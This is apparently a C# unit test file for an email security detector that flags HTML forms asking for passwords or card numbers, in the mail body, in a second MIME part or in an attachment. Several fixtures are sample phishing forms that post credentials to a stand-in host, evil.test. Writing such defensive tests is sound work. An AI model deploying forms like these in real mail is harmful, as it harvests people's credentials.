using System.Text;
using Platform.Engine.Detectors.LinkTargets;

namespace Platform.Engine.Tests.Detectors.LinkTargets;

public sealed class CredentialFormTests
{
    [Theory]
    [InlineData("<form action=\"https://evil.test/p\"><input name=u><input type=\"PASSWORD\" name=p></form>", "credential-form")]
    [InlineData("<form action=\"https://evil.test/p\"><input type=text name=card></form>", "form-in-body")]
    [InlineData("<form action=\"https://partner.example/s\"><input type=hidden name=q></form><form action=\"https://evil.test/p\"><input name=card></form>", "form-in-body")]
    [InlineData("<form action=\"https://other.test/s\"><input name=q></form><form action=\"https://evil.test/p\"><input type=password></form>", "credential-form")]
    [InlineData("<form action=\"https://partner.example/s\"><input name=card><button formaction=\"https://evil.test/p\">Send</button></form>", "form-in-body")]
    public void Forms_that_ask_are_seen(string html, string sign)
    {
        Assert.Equal([sign], new TestMail { Html = $"<p>Hello</p>{html}" }.SignsOf(new CredentialForm()));
    }

    [Fact]
    public void A_form_in_a_second_body_is_seen()
    {
        var mail = $"From: a@partner.example\r\nTo: b@acme.test\r\nSubject: x\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n<form action=https://partner.example/s><input type=hidden></form>\r\n--b\r\nContent-Type: text/html\r\n\r\n<form action=https://evil.test/p><input name=card></form>\r\n--b--\r\n";
        Assert.Equal(["form-in-body"], new CredentialForm().Inspect(TestMail.Read(mail)).Select(sign => sign.Id));
    }

    [Theory]
    [InlineData("<form action=\"https://search.partner.test/\"><input type=text name=q></form>")]
    [InlineData("<form action=\"https://other.test/u\"><input type=hidden name=id value=1><input type=submit></form>")]
    [InlineData("<form action=\"https://shop.other.test/find\"><input name=keyword><input type=hidden name=tag></form>")]
    [InlineData("<form action=\"https://www.other.test/\"><input name=q></form>")]
    [InlineData("<p>password</p>")]
    public void Own_search_boxes_and_buttons_pass(string html)
    {
        Assert.Empty(new TestMail { From = "news@partner.test", Html = $"<p>Hello</p>{html}" }.SignsOf(new CredentialForm()));
    }

    [Theory]
    [InlineData("login.html", "<html><form><INPUT name=p type = 'password'></form></html>", true)]
    [InlineData("report.html", "<html><p>Set a strong password.</p><input type=text></html>", false)]
    public void A_page_that_asks_for_a_password_is_seen(string name, string html, bool seen)
    {
        Assert.Equal(seen, new TestMail { Files = [(name, Encoding.UTF8.GetBytes(html))] }.SignsOf(new CredentialForm()).Contains("credential-form-attachment"));
    }
}
